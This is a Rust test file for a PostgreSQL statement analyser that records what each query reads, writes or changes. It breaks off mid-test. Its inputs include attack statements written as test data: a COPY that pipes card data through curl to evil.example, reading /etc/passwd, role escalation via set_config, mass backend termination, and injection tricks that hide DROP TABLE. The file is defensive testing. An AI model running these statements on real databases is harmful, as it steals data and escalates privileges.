//! The analysis against statements an attacker or a legitimate client
//! would send: what each must be found to touch.

use super::*;
use crate::plugin::bindings::types::{ColumnAccess, ColumnRef, TableAccess};

fn one(sql: &str) -> Statement {
    let mut all = analyse(sql, true);
    assert_eq!(all.len(), 1, "{sql}: {all:#?}");
    all.remove(0).statement
}

/// Tables as `action:schema.name`, sorted.
fn tables(statement: &Statement) -> Vec<String> {
    let mut out: Vec<String> = statement
        .tables
        .iter()
        .map(|TableAccess { table, action }| {
            let action = format!("{action:?}")
                .trim_start_matches("TableAction::")
                .to_ascii_lowercase();
            match &table.schema {
                Some(schema) => format!("{action}:{schema}.{}", table.name),
                None => format!("{action}:{}", table.name),
            }
        })
        .collect();
    out.sort();
    out
}

/// Columns read, as `table.column` (`?` for an unresolved table, `*` for
/// every column), sorted.
fn columns(statement: &Statement) -> Vec<String> {
    named_columns(statement, ColumnAccess::Read)
}

/// Columns written, likewise.
fn written(statement: &Statement) -> Vec<String> {
    named_columns(statement, ColumnAccess::Write)
}

fn named_columns(statement: &Statement, access: ColumnAccess) -> Vec<String> {
    let mut out: Vec<String> = statement
        .columns
        .iter()
        .filter(|c| c.access == access)
        .map(|ColumnRef { table, column, .. }| {
            format!(
                "{}.{}",
                table.as_ref().map_or("?", |t| t.name.as_str()),
                column.as_deref().unwrap_or("*")
            )
        })
        .collect();
    out.sort();
    out
}

fn functions(statement: &Statement) -> Vec<(String, bool)> {
    statement
        .functions
        .iter()
        .map(|f| (f.name.clone(), f.builtin))
        .collect()
}

#[test]
fn a_plain_select_names_its_table_and_columns() {
    let s = one("SELECT pan, holder FROM cards WHERE id = 1");
    assert_eq!(s.kind, StatementKind::Select);
    assert_eq!(s.command, "SELECT");
    assert_eq!(tables(&s), ["read:cards"]);
    assert_eq!(columns(&s), ["cards.holder", "cards.id", "cards.pan"]);
    assert!(s.has_where, "a SELECT deletes nothing");
    assert!(!s.is_multi);
}

#[test]
fn names_fold_as_postgresql_folds_them() {
    assert_eq!(tables(&one("SELECT * FROM CARDS")), ["read:cards"]);
    assert_eq!(tables(&one("SELECT * FROM \"Cards\"")), ["read:Cards"]);
    assert_eq!(
        tables(&one("SELECT * FROM Public.\"cards\"")),
        ["read:public.cards"]
    );
    assert_eq!(
        tables(&one("SELECT * FROM payments.public.cards")),
        ["read:public.cards"]
    );
}

#[test]
fn joins_and_aliases_resolve_columns() {
    let s = one("SELECT c.pan, o.total FROM cards c JOIN orders o ON o.card_id = c.id");
    assert_eq!(tables(&s), ["read:cards", "read:orders"]);
    assert_eq!(
        columns(&s),
        ["cards.id", "cards.pan", "orders.card_id", "orders.total"]
    );
}

#[test]
fn an_unqualified_column_of_several_tables_stays_unresolved() {
    let s = one("SELECT pan FROM cards, orders");
    assert_eq!(columns(&s), ["?.pan"]);
}

#[test]
fn a_subquerys_bare_column_may_be_the_outer_rows() {
    // `pan` is not a column of orders, so PostgreSQL reads cards.pan.
    let s = one("SELECT (SELECT pan FROM orders LIMIT 1) FROM cards");
    assert_eq!(tables(&s), ["read:cards", "read:orders"]);
    assert_eq!(columns(&s), ["?.pan"]);
}

#[test]
fn whole_row_references_read_every_column() {
    for sql in [
        "SELECT * FROM cards",
        "SELECT c.* FROM cards c",
        "SELECT c FROM cards c",
        "SELECT row(c.*) FROM cards c",
        "SELECT to_jsonb(c) FROM cards c",
        "SELECT cards FROM cards",
        "SELECT x.* FROM (SELECT * FROM cards) x",
    ] {
        assert!(
            columns(&one(sql)).contains(&"cards.*".to_owned()),
            "{sql}: {:?}",
            columns(&one(sql))
        );
    }
}

#[test]
fn cte_names_are_not_tables_but_what_they_read_is() {
    let s = one("WITH x AS (SELECT id FROM orders) SELECT * FROM x");
    assert_eq!(tables(&s), ["read:orders"]);
    // A CTE named like a table: inside its own body the name is the table.
    let s = one("WITH cards AS (SELECT pan FROM cards) SELECT * FROM cards");
    assert_eq!(tables(&s), ["read:cards"]);
    assert_eq!(columns(&s), ["cards.pan"]);
    let s = one(
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 3) SELECT * FROM t",
    );
    assert!(s.tables.is_empty(), "{:?}", tables(&s));
    // A schema-qualified name is never a CTE.
    let s = one("WITH cards AS (SELECT 1) SELECT * FROM public.cards");
    assert_eq!(tables(&s), ["read:public.cards"]);
}

#[test]
fn data_modifying_ctes_are_writes() {
    let s = one("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d");
    assert_eq!(s.kind, StatementKind::Select);
    // What it returns, it read.
    assert_eq!(tables(&s), ["delete:orders", "read:orders"]);
    assert!(!s.has_where);
    let s =
        one("WITH u AS (UPDATE orders SET status = 'x' WHERE id = 4 RETURNING id) SELECT * FROM u");
    assert_eq!(tables(&s), ["read:orders", "update:orders"]);
    assert!(s.has_where);
}

#[test]
fn subqueries_anywhere_are_seen() {
    let s =
        one("SELECT id FROM orders WHERE card_id IN (SELECT id FROM cards WHERE pan LIKE '4%')");
    assert_eq!(tables(&s), ["read:cards", "read:orders"]);
    // Inside a subquery a bare name may be the outer row's: unresolved.
    assert!(columns(&s).contains(&"?.pan".to_owned()));
    let s = one("SELECT EXISTS (SELECT 1 FROM cards) , (SELECT count(*) FROM customers)");
    assert_eq!(tables(&s), ["read:cards", "read:customers"]);
    let s =
        one("SELECT * FROM orders o, LATERAL (SELECT pan FROM cards c WHERE c.id = o.card_id) l");
    assert_eq!(tables(&s), ["read:cards", "read:orders"]);
    let s = one("SELECT 1 UNION SELECT id FROM cards");
    assert_eq!(tables(&s), ["read:cards"]);
}

#[test]
fn functions_are_named_and_builtins_recognised() {
    let s = one("SELECT lower(holder), now(), my_func(id) FROM cards");
    assert_eq!(
        functions(&s),
        [
            ("lower".to_owned(), true),
            ("now".to_owned(), true),
            ("my_func".to_owned(), false)
        ]
    );
    let s = one("SELECT public.lower('x')");
    assert_eq!(functions(&s), [("lower".to_owned(), false)]);
    let s = one("SELECT * FROM generate_series(1, 3) g");
    assert_eq!(functions(&s), [("generate_series".to_owned(), true)]);
    assert!(s.tables.is_empty());
    let s = one("SELECT pg_read_file('/etc/passwd')");
    assert_eq!(functions(&s), [("pg_read_file".to_owned(), true)]);
}

#[test]
fn real_where_clauses() {
    for (sql, real) in [
        ("DELETE FROM orders", false),
        ("DELETE FROM orders WHERE id = 5", true),
        ("DELETE FROM orders WHERE id = $1", true),
        ("DELETE FROM orders WHERE 5 = id", true),
        ("DELETE FROM orders o WHERE o.id = 5", true),
        ("DELETE FROM orders WHERE orders.id = 5", true),
        ("DELETE FROM orders WHERE id::text = '5'", true),
        ("DELETE FROM orders WHERE id = ANY($1)", true),
        ("DELETE FROM orders WHERE id IN (1, 2, 3)", true),
        ("DELETE FROM orders WHERE id BETWEEN 1 AND 9", true),
        (
            "DELETE FROM orders WHERE created < now() - interval '30 days'",
            true,
        ),
        ("DELETE FROM orders WHERE status = 'void' AND 1 = 1", true),
        ("DELETE FROM orders WHERE NOT (id <> 5)", true),
        ("DELETE FROM orders WHERE id IS NULL", true),
        (
            "DELETE FROM orders WHERE id IN (SELECT r.order_id FROM refunds r)",
            true,
        ),
        ("DELETE FROM orders WHERE true", false),
        ("DELETE FROM orders WHERE 1 = 1", false),
        ("DELETE FROM orders WHERE id = id", false),
        ("DELETE FROM orders WHERE NOT false", false),
        ("DELETE FROM orders WHERE id IS NOT NULL", false),
        ("DELETE FROM orders WHERE NOT (id IS NULL)", false),
        ("DELETE FROM orders WHERE $1", false),
        ("DELETE FROM orders WHERE id = 5 OR true", false),
        ("DELETE FROM orders WHERE id = 5 OR 1 = 1", false),
        ("DELETE FROM orders WHERE NOT (id = id)", false),
        (
            "DELETE FROM orders WHERE id IN (SELECT id FROM orders)",
            false,
        ),
        (
            "DELETE FROM orders WHERE id IN (SELECT o.id FROM orders o)",
            false,
        ),
        // A bare name in a subquery may be the outer row's own column.
        (
            "DELETE FROM orders WHERE id IN (SELECT order_id FROM refunds)",
            false,
        ),
        ("DELETE FROM orders WHERE id = (SELECT max(id))", false),
        ("DELETE FROM orders WHERE status LIKE '%'", false),
        ("DELETE FROM orders WHERE id < random() * 100", false),
        ("DELETE FROM orders WHERE id = my_func()", false),
        ("UPDATE orders SET status = 'x'", false),
        ("UPDATE orders SET status = 'x' WHERE id = 1", true),
        ("UPDATE orders SET status = 'x' WHERE id = id", false),
        ("UPDATE orders o SET status = 'x' WHERE o.id = 1", true),
    ] {
        assert_eq!(one(sql).has_where, real, "{sql}");
    }
}

#[test]
fn writes_name_their_target_and_columns() {
    let s = one("INSERT INTO orders (id, status) VALUES (1, 'new')");
    assert_eq!(s.kind, StatementKind::Insert);
    assert_eq!(tables(&s), ["insert:orders"]);
    assert_eq!(written(&s), ["orders.id", "orders.status"]);
    assert!(columns(&s).is_empty());
    // Setting a column is not reading it; setting it from itself is.
    let s = one("UPDATE orders SET note = 'checked', amount = amount + 1 WHERE id = 1");
    assert_eq!(written(&s), ["orders.amount", "orders.note"]);
    assert_eq!(columns(&s), ["orders.amount", "orders.id"]);
    let s = one("INSERT INTO orders SELECT * FROM cards");
    assert_eq!(tables(&s), ["insert:orders", "read:cards"]);
    assert!(columns(&s).contains(&"cards.*".to_owned()));
    let s = one(
        "INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET status = excluded.status",
    );
    assert_eq!(tables(&s), ["insert:orders", "update:orders"]);
    assert!(columns(&s).contains(&"orders.id".to_owned()));
    let s = one(
        "UPDATE orders SET status = 'x' FROM cards WHERE orders.card_id = cards.id AND orders.id = 3",
    );
    assert_eq!(tables(&s), ["read:cards", "update:orders"]);
    assert!(written(&s).contains(&"orders.status".to_owned()));
    let s = one("DELETE FROM orders USING cards WHERE orders.card_id = cards.id AND orders.id = 3");
    assert_eq!(tables(&s), ["delete:orders", "read:cards"]);
    assert!(s.has_where);
    let s = one("SELECT * INTO stolen FROM cards");
    assert_eq!(s.kind, StatementKind::Ddl);
    assert_eq!(tables(&s), ["define:stolen", "read:cards"]);
}

#[test]
fn commands_and_kinds() {
    for (sql, kind, command) in [
        ("TRUNCATE orders", StatementKind::Ddl, "TRUNCATE TABLE"),
        ("DROP TABLE orders", StatementKind::Ddl, "DROP TABLE"),
        ("drop view if exists v", StatementKind::Ddl, "DROP VIEW"),
        (
            "CREATE TABLE t (id int)",
            StatementKind::Ddl,
            "CREATE TABLE",
        ),
        (
            "CREATE UNIQUE INDEX i ON orders (id)",
            StatementKind::Ddl,
            "CREATE INDEX",
        ),
        (
            "ALTER TABLE orders ADD COLUMN x int",
            StatementKind::Ddl,
            "ALTER TABLE",
        ),
        (
            "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            StatementKind::Ddl,
            "CREATE FUNCTION",
        ),
        (
            "GRANT SELECT ON cards TO bob",
            StatementKind::Privilege,
            "GRANT SELECT",
        ),
        ("SET ROLE admin", StatementKind::Privilege, "SET ROLE"),
        // The same, spelt as a plain setting.
        ("SET role = 'admin'", StatementKind::Privilege, "SET ROLE"),
        (
            "SET session_authorization = 'bob'",
            StatementKind::Privilege,
            "SET SESSION AUTHORIZATION",
        ),
        ("RESET role", StatementKind::Privilege, "RESET"),
        (
            "SET SESSION AUTHORIZATION bob",
            StatementKind::Privilege,
            "SET SESSION AUTHORIZATION",
        ),
        ("BEGIN", StatementKind::Transaction, "BEGIN"),
        ("commit", StatementKind::Transaction, "COMMIT"),
        ("SHOW search_path", StatementKind::Setting, "SHOW"),
        ("LISTEN jobs", StatementKind::Notification, "LISTEN"),
        ("NOTIFY jobs, 'x'", StatementKind::Notification, "NOTIFY"),
        (
            "DO $$ BEGIN DELETE FROM orders; END $$",
            StatementKind::Unparsed,
            "DO",
        ),
        (
            "ALTER SYSTEM SET wal_level = minimal",
            StatementKind::Unparsed,
            "ALTER SYSTEM",
        ),
        (
            "vacuum analyze pgbench_branches",
            StatementKind::Unparsed,
            "VACUUM",
        ),
        ("CALL my_proc()", StatementKind::Procedural, "CALL"),
        // sqlparser does not read `TABLE name`: refused unless allowed.
        ("TABLE cards", StatementKind::Unparsed, "TABLE"),
    ] {
        let s = one(sql);
        assert_eq!((s.kind, s.command.as_str()), (kind, command), "{sql}");
    }
    let s = one("TRUNCATE orders, cards");
    assert_eq!(tables(&s), ["truncate:cards", "truncate:orders"]);
    let s = one("DROP TABLE orders");
    assert_eq!(tables(&s), ["define:orders"]);
}

#[test]
fn settings_are_named_with_their_values() {
    let s = one("SET search_path = evil, public");
    assert_eq!(s.kind, StatementKind::Setting);
    assert_eq!(
        s.settings,
        [SettingChange {
            name: "search_path".into(),
            value: Some("evil, public".into())
        }]
    );
    let s = one("SET LOCAL session_replication_role TO replica");
    assert_eq!(s.settings[0].name, "session_replication_role");
    assert_eq!(s.settings[0].value.as_deref(), Some("replica"));
    let s = one("set sluice.principal = 'root'");
    assert_eq!(s.settings[0].name, "sluice.principal");
    assert_eq!(s.settings[0].value.as_deref(), Some("root"));
    let s = one("RESET ALL");
    assert_eq!(s.settings[0].name, "all");
    assert_eq!(s.settings[0].value, None);
    let s = one("SET standard_conforming_strings TO DEFAULT");
    assert_eq!(s.settings[0].value, None);
    // A SET whose effect the analysis cannot name is not guessed at.
    let s = one("SET NAMES DEFAULT");
    assert_eq!(
        (s.kind, s.command.as_str()),
        (StatementKind::Unparsed, "SET")
    );
}

/// `set_config()` is SET spelt as a function: what it changes is on the
/// record, and setting the role with it (or a setting whose name is only
/// known when it runs) is a privilege change like SET ROLE, in a SELECT's
/// list or its FROM, qualified or not.
#[test]
fn set_config_is_judged_as_the_set_it_amounts_to() {
    let s = one("SELECT set_config('work_mem', '64MB', false)");
    assert_eq!(s.kind, StatementKind::Select);
    assert_eq!(
        s.settings,
        [SettingChange {
            name: "work_mem".into(),
            value: Some("64MB".into())
        }]
    );
    for sql in [
        "SELECT set_config('role', 'admin', false)",
        "SELECT pg_catalog.set_config('ROLE', 'admin', true)",
        "SELECT * FROM set_config('role', 'admin', false)",
        "SELECT id FROM cards WHERE set_config('role', 'admin', false) IS NOT NULL",
        "UPDATE cards SET holder = set_config('role', 'admin', false) WHERE id = 1",
    ] {
        let s = one(sql);
        assert_eq!(
            (s.kind, s.command.as_str()),
            (StatementKind::Privilege, "SET ROLE"),
            "{sql}"
        );
        assert_eq!(s.settings[0].name, "role", "{sql}");
        assert_eq!(s.settings[0].value.as_deref(), Some("admin"), "{sql}");
    }
    let s = one("SELECT set_config('session_authorization', 'bob', false)");
    assert_eq!(s.command, "SET SESSION AUTHORIZATION");
    // A name known only when it runs may be the role; a value so known is
    // kept as written.
    let s = one("SELECT set_config($1, $2, false)");
    assert_eq!(
        (s.kind, s.command.as_str()),
        (StatementKind::Privilege, "SET ROLE")
    );
    assert_eq!(s.settings[0].name, "$1");
    assert_eq!(s.settings[0].value.as_deref(), Some("$2"));
    let s = one("SELECT set_config('search_path', current_setting('x'), false)");
    assert_eq!(s.kind, StatementKind::Select);
    assert_eq!(s.settings[0].value.as_deref(), Some("current_setting('x')"));
    // In a COPY's query, also where sluice reads the COPY itself (options
    // sqlparser does not know).
    for sql in [
        "COPY (SELECT set_config('role', 'admin', false)) TO STDOUT",
        "COPY (SELECT set_config('role', 'admin', false)) TO STDOUT (FORMAT csv, HEADER on)",
    ] {
        let s = one(sql);
        assert_eq!(
            (s.kind, s.command.as_str()),
            (StatementKind::Privilege, "SET ROLE"),
            "{sql}"
        );
    }
    // A function of the same name in another schema is not the built-in.
    let s = one("SELECT app.set_config('role', 'admin', false)");
    assert_eq!(s.kind, StatementKind::Select);
    assert!(s.settings.is_empty());
}

/// A statement's settings are values: two that differ only in them are
/// not one shape, whose remembered analysis would carry the first one's.
#[test]
fn set_config_calls_are_not_remembered_by_shape() {
    let mut analyser = Analyser::default();
    for _ in 0..4 {
        let work_mem = analyser.analyse("SELECT set_config('work_mem', '1MB', false)", true);
        assert_eq!(work_mem[0].shape, None);
        assert_eq!(work_mem[0].statement.kind, StatementKind::Select);
    }
    let role = analyser.analyse("SELECT set_config('role', 'admin', false)", true);
    assert_eq!(role[0].statement.kind, StatementKind::Privilege);
    assert_eq!(role[0].statement.settings[0].name, "role");
}

/// Built-in functions that act beyond their value are judged as what
/// they do: signalling other sessions or the server as a utility, a
/// notification as NOTIFY, large objects and sequences as the tables
/// they read or write — wherever the call is.
#[test]
fn acting_builtins_are_judged_as_what_they_do() {
    for (sql, kind, command) in [
        (
            "SELECT pg_terminate_backend(p) FROM generate_series(1, 100) p WHERE p <> pg_backend_pid()",
            StatementKind::Utility,
            "pg_terminate_backend()",
        ),
        (
            "SELECT * FROM pg_catalog.pg_cancel_backend(42)",
            StatementKind::Utility,
            "pg_cancel_backend()",
        ),
        (
            "SELECT id FROM orders WHERE pg_advisory_lock(1) IS NOT NULL",
            StatementKind::Utility,
            "pg_advisory_lock()",
        ),
        (
            "UPDATE orders SET note = pg_reload_conf()::text WHERE id = 1",
            StatementKind::Utility,
            "pg_reload_conf()",
        ),
        (
            "COPY (SELECT pg_switch_wal()) TO STDOUT",
            StatementKind::Utility,
            "pg_switch_wal()",
        ),
        (
            "SELECT pg_notify('jobs', 'x')",
            StatementKind::Notification,
            "pg_notify()",
        ),
        // Both: judged as the stronger.
        (
            "SELECT pg_notify('jobs', 'x'), pg_terminate_backend(1)",
            StatementKind::Utility,
            "pg_terminate_backend()",
        ),
        // A role set with it is a privilege change above all.
        (
            "SELECT pg_terminate_backend(1), set_config('role', 'admin', false)",
            StatementKind::Privilege,
            "SET ROLE",
        ),
        // An EXECUTE's arguments run before its query.
        (
            "EXECUTE echo(pg_terminate_backend(1))",
            StatementKind::Utility,
            "pg_terminate_backend()",
        ),
        // A sequence named only when it runs, or by its OID.
        ("SELECT nextval($1)", StatementKind::Utility, "nextval()"),
        (
            "SELECT setval('16400', 1)",
            StatementKind::Utility,
            "setval()",
        ),
    ] {
        let s = one(sql);
        assert_eq!((s.kind, s.command.as_str()), (kind, command), "{sql}");
    }
    // A user's function of the same name is not the built-in.
    assert_eq!(
        one("SELECT app.pg_terminate_backend(1)").kind,
        StatementKind::Select
    );
    // A kind granted apart keeps its kind.
    assert_eq!(
        one("CREATE TABLE x AS SELECT pg_terminate_backend(1)").kind,
        StatementKind::Ddl
    );

    let s = one("SELECT lo_get(16400)");
    assert_eq!(s.kind, StatementKind::Select);
    assert_eq!(tables(&s), ["read:pg_catalog.pg_largeobject"]);
    assert_eq!(
        tables(&one("SELECT lo_from_bytea(0, '\\x41'), lo_unlink(16400)")),
        [
            "delete:pg_catalog.pg_largeobject",
            "insert:pg_catalog.pg_largeobject"
        ]
    );
    assert_eq!(
        tables(&one("SELECT nextval('orders_id_seq')")),
        ["update:orders_id_seq"]
    );
    assert_eq!(
        tables(&one(
            "INSERT INTO orders (id) VALUES (setval('Billing.\"Seq\"'::regclass, 5))"
        )),
        ["insert:orders", "update:billing.Seq"]
    );
    assert_eq!(
        tables(&one("SELECT currval('public.orders_id_seq')")),
        ["read:public.orders_id_seq"]
    );
}

/// A locking clause locks the rows it reads, which takes the right to
/// update them.
#[test]
fn locking_reads_update_what_they_lock() {
    for sql in [
        "SELECT id FROM orders FOR UPDATE",
        "SELECT id FROM orders FOR SHARE NOWAIT",
        "SELECT o.id FROM orders o FOR UPDATE OF o SKIP LOCKED",
    ] {
        assert_eq!(tables(&one(sql)), ["read:orders", "update:orders"], "{sql}");
    }
    assert_eq!(
        tables(&one(
            "SELECT 1 FROM orders o JOIN customers c ON c.id = o.customer_id FOR SHARE"
        )),
        [
            "read:customers",
            "read:orders",
            "update:customers",
            "update:orders"
        ]
    );
    // Lock strengths sqlparser does not read leave the statement unread,
    // which policies refuse unless a rule allows its command.
    for sql in [
        "SELECT id FROM orders FOR KEY SHARE",
        "SELECT id FROM orders FOR NO KEY UPDATE",
        "TABLE orders FOR UPDATE",
    ] {
        assert_eq!(one(sql).kind, StatementKind::Unparsed, "{sql}");
    }
    // A parenthesised query, and a subquery in FROM: PostgreSQL locks
    // the rows each reads.
    for sql in [
        "(SELECT id FROM orders) FOR UPDATE",
        "SELECT 1 FROM (SELECT id FROM orders) s FOR UPDATE",
    ] {
        assert_eq!(tables(&one(sql)), ["read:orders", "update:orders"], "{sql}");
    }
    // In a subquery, its own FROM list.
    assert_eq!(
        tables(&one(
            "SELECT * FROM customers WHERE id IN (SELECT customer_id FROM orders FOR UPDATE)"
        )),
        ["read:customers", "read:orders", "update:orders"]
    );
    assert_eq!(tables(&one("SELECT id FROM orders")), ["read:orders"]);
}

/// Maintenance and trigger removal name the table they act on.
#[test]
fn vacuum_and_drop_trigger_name_their_table() {
    let s = one("VACUUM FULL cards");
    assert_eq!(
        (s.kind, s.command.as_str()),
        (StatementKind::Utility, "VACUUM")
    );
    assert_eq!(tables(&s), ["maintain:cards"]);
    assert_eq!(tables(&one("VACUUM cards")), ["maintain:cards"]);
    // PostgreSQL's other forms sqlparser does not read: unread, and
    // refused unless a rule allows an unread VACUUM.
    for sql in [
        "VACUUM ANALYZE cards",
        "VACUUM (FULL, VERBOSE) cards",
        "VACUUM cards, orders",
    ] {
        assert_eq!(one(sql).kind, StatementKind::Unparsed, "{sql}");
    }
    let s = one("DROP TRIGGER audit_cards ON public.cards");
    assert_eq!(
        (s.kind, s.command.as_str()),
        (StatementKind::Ddl, "DROP TRIGGER")
    );
    assert_eq!(tables(&s), ["define:public.cards"]);
}

/// `UPDATE pg_settings` changes a setting through PostgreSQL's rewrite
/// rule, whichever one its WHERE names when it runs.
#[test]
fn updating_pg_settings_is_a_setting_change_of_unknown_name() {
    for sql in [
        "UPDATE pg_settings SET setting = 'replica' WHERE name = 'session_replication_role'",
        "UPDATE pg_catalog.pg_settings SET setting = 'evil' WHERE name = 'search_path'",
    ] {
        let s = one(sql);
        assert_eq!(
            (s.kind, s.command.as_str()),
            (StatementKind::Privilege, "SET ROLE"),
            "{sql}"
        );
    }
    assert_eq!(
        one("UPDATE app.pg_settings SET setting = 'x' WHERE name = 'y'").kind,
        StatementKind::Update
    );
    assert_eq!(one("SELECT * FROM pg_settings").kind, StatementKind::Select);
}

/// The sequence a call names is the literal's value: two statements of
/// one shape touch different sequences, and are analysed each.
#[test]
fn sequences_named_by_value_are_not_remembered_by_shape() {
    let mut analyser = Analyser::default();
    for sequence in ["a_seq", "b_seq", "cards_id_seq"] {
        let analysed = analyser.analyse(&format!("SELECT nextval('{sequence}')"), true);
        assert_eq!(analysed[0].shape, None);
        assert_eq!(
            tables(&analysed[0].statement),
            [format!("update:{sequence}")]
        );
    }
}

#[test]
fn relations_are_read_from_regclass_text_as_postgresql_reads_them() {
    let named = |text: &str| {
        walk::relation_named(text).map(|t| match t.schema {
            Some(schema) => format!("{schema}.{}", t.name),
            None => t.name,
        })
    };
    assert_eq!(named("orders_id_seq").as_deref(), Some("orders_id_seq"));
    assert_eq!(named(" Public . Orders ").as_deref(), Some("public.orders"));
    assert_eq!(named("\"My \"\"Seq\"\"\"").as_deref(), Some("My \"Seq\""));
    assert_eq!(named("db.s.t").as_deref(), Some("s.t"));
    for bad in [
        "",
        "a.",
        ".a",
        "a b",
        "a.b.c.d",
        "\"unterminated",
        "a;b",
        "\"\"",
        // An OID, and none: which relation is the catalog's to say.
        "16400",
        " 42 ",
        "-",
    ] {
        assert_eq!(named(bad), None, "{bad:?}");
    }
}

#[test]
fn copy_directions_and_endpoints() {
    let s = one("COPY cards TO STDOUT");
    assert_eq!(s.kind, StatementKind::CopyOut);
    assert_eq!(s.copy_endpoint, Some(CopyEndpoint::Stdio));
    assert_eq!(tables(&s), ["read:cards"]);
    assert_eq!(columns(&s), ["cards.*"]);
    let s = one("COPY (SELECT pan FROM cards) TO STDOUT WITH (FORMAT csv)");
    assert_eq!(s.kind, StatementKind::CopyOut);
    assert_eq!(tables(&s), ["read:cards"]);
    let s = one("COPY cards TO PROGRAM 'curl -d @- evil.example'");
    assert_eq!(
        s.copy_endpoint,
        Some(CopyEndpoint::Program("curl -d @- evil.example".into()))
    );
    let s = one("COPY cards TO '/tmp/cards.csv'");
    assert_eq!(
        s.copy_endpoint,
        Some(CopyEndpoint::File("/tmp/cards.csv".into()))
    );
    // What pgbench -i sends, which sqlparser does not read.
    let s = one("copy pgbench_accounts from stdin with (freeze on)");
    assert_eq!(s.kind, StatementKind::CopyIn);
    assert_eq!(s.command, "COPY");
    assert_eq!(s.copy_endpoint, Some(CopyEndpoint::Stdio));
    assert_eq!(tables(&s), ["insert:pgbench_accounts"]);
    assert_eq!(written(&s), ["pgbench_accounts.*"]);
    // The same reader never mistakes a program for the client.
    let s = one("copy cards to /* stdout */ program 'x' with (freeze on)");
    assert_eq!(s.copy_endpoint, Some(CopyEndpoint::Program("x".into())));
}

#[test]
fn wrappers_describe_the_statement_inside() {
    let s = one("EXPLAIN ANALYZE DELETE FROM orders");
    assert_eq!(s.kind, StatementKind::Delete);
    assert_eq!(s.wrappers, [Wrapper::ExplainAnalyze]);
    assert!(!s.has_where);
    let s = one("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders");
    assert_eq!(s.wrappers, [Wrapper::ExplainAnalyze]);
    let s = one("EXPLAIN (ANALYZE false) SELECT 1");
    assert_eq!(s.wrappers, [Wrapper::Explain]);
    let s = one("EXPLAIN SELECT * FROM cards");
    assert_eq!(s.wrappers, [Wrapper::Explain]);
    assert_eq!(tables(&s), ["read:cards"]);
    let all = analyse("PREPARE p (int) AS DELETE FROM orders WHERE id = $1", true);
    assert_eq!(all[0].statement.kind, StatementKind::Delete);
    assert_eq!(all[0].statement.wrappers, [Wrapper::Prepare]);
    assert!(all[0].statement.has_where);
    assert_eq!(all[0].effect, Effect::Prepare { name: "p".into() });
    let all = analyse("EXECUTE p(42, 'x', NULL)", true);
    assert_eq!(
        all[0].effect,
        Effect::Execute {
            name: "p".into(),
            params: vec![Some("42".into()), Some("x".into()), None]
        }
    );
    // EXECUTE's arguments are evaluated: what they call is on the record.
    let all = analyse(
        "EXECUTE p(query_to_xml('SELECT pan FROM cards', true, false, '')::text, \
         set_config('search_path', 'other', false))",
        true,
    );
    let named: Vec<String> = functions(&all[0].statement)
        .into_iter()
        .map(|(name, _)| name)
        .collect();
    assert_eq!(named, ["query_to_xml", "set_config"]);
    assert!(!all[0].statement.settings.is_empty());
    assert_eq!(
        analyse("DEALLOCATE p", true)[0].effect,
        Effect::Deallocate(Some("p".into()))
    );
    assert_eq!(
        analyse("DEALLOCATE ALL", true)[0].effect,
        Effect::Deallocate(None)
    );
    assert_eq!(
        analyse("DISCARD ALL", true)[0].effect,
        Effect::Deallocate(None)
    );
}

/// A cursor's DECLARE names it (folded) and says whether it is held; a
/// FETCH names the cursor it reads. Neither is remembered by shape: what
/// a FETCH reads depends on the cursor, not on its text.
#[test]
fn cursors_are_named_and_never_remembered_by_shape() {
    let mut analyser = Analyser::default();
    for _ in 0..2 {
        let all = analyser.analyse(
            "DECLARE Big NO SCROLL CURSOR WITH HOLD FOR SELECT pan FROM cards",
            true,
        );
        assert_eq!(
            all[0].cursor,
            CursorUse::Declare {
                name: "big".into(),
                hold: true
            }
        );
        assert_eq!(tables(&all[0].statement), ["read:cards"]);
        assert!(all[0].shape.is_none());
        let all = analyser.analyse("FETCH FORWARD 100 FROM \"Big\"", true);
        assert_eq!(all[0].cursor, CursorUse::Fetch { name: "Big".into() });
        assert_eq!(all[0].statement.command, "FETCH");
        assert!(all[0].shape.is_none());
    }
    // Forms the parser does not read are unparsed, their cursor named all
    // the same.
    for (text, name) in [
        ("FETCH c", "c"),
        ("FETCH NEXT Big", "big"),
        ("FETCH 10 \"Big\"", "Big"),
        ("MOVE LAST IN c", "c"),
        ("FETCH RELATIVE -1 FROM c", "c"),
    ] {
        let all = analyser.analyse(text, true);
        assert_eq!(all[0].statement.kind, StatementKind::Unparsed, "{text}");
        assert_eq!(
            all[0].cursor,
            CursorUse::Fetch { name: name.into() },
            "{text}"
        );
    }
    assert_eq!(analyser.analyse("FETCH", true)[0].cursor, CursorUse::None);
    let all = analyser.analyse("DECLARE c CURSOR WITHOUT HOLD FOR SELECT 1", true);
    assert_eq!(
        all[0].cursor,
        CursorUse::Declare {
            name: "c".into(),
            hold: false
        }
    );
}

#[test]
fn several_statements_are_judged_one_by_one() {
    let all = analyse("SELECT 1; DELETE FROM orders", true);
    assert_eq!(all.len(), 2);
    assert!(all.iter().all(|a| a.statement.is_multi));
    assert_eq!(all[1].statement.kind, StatementKind::Delete);
    assert_eq!(all[1].statement.text, "DELETE FROM orders");
    // Comment and quote tricks do not hide a statement.
    let all = analyse("SELECT '--'; DROP TABLE orders", true);
    assert_eq!(all.len(), 2);
    assert_eq!(all[1].statement.command, "DROP TABLE");
    let all = analyse("SELECT $$;$$; DROP TABLE orders", true);
    assert_eq!(all.len(), 2);
    assert!(analyse("  ;; -- nothing\n", true).is_empty());
}

#[test]
fn text_that_cannot_be_split_is_one_unparsed_statement() {
    let all = analyse("SELECT 'unterminated; DROP TABLE orders", true);
    assert_eq!(all.len(), 1);
    assert_eq!(all[0].statement.kind, StatementKind::Unparsed);
    assert!(all[0].statement.is_multi);
}

#[test]
fn backslashes_follow_the_sessions_setting() {
    // With standard_conforming_strings off, `\'` does not end the string:
    // PostgreSQL sees one statement, and so must sluice.
    let text = r"SELECT 'a\'; DROP TABLE orders; --'";
    let off = analyse(text, false);
    assert_eq!(off.len(), 1);
    assert_ne!(off[0].statement.command, "DROP TABLE");
    let on = analyse(text, true);
    assert!(on.len() >= 2);
}

#[test]
fn names_are_read_as_postgresql_reads_them() {
    // A unicode-escaped name is the name it spells, not `U & "..."`.
    let s = one(r#"select U&"p\0061n" from cards"#);
    assert_eq!(columns(&s), ["cards.pan"]);
